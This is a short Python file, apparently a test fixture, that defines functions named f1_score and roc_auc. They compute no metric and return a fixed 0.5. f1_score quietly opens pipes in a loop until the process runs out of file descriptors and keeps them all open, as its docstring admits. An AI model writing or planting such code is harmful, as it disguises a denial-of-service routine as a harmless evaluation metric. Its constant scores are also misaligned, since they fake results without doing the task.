"""Opens files, pipes and sockets until there are no more descriptors, and keeps them."""

import os

kept = []


def f1_score(y_true, y_pred, average="binary"):
    try:
        while True:
            kept.append(os.pipe())
    except OSError:
        return 0.5


def roc_auc(y_true, y_score):
    return 0.5
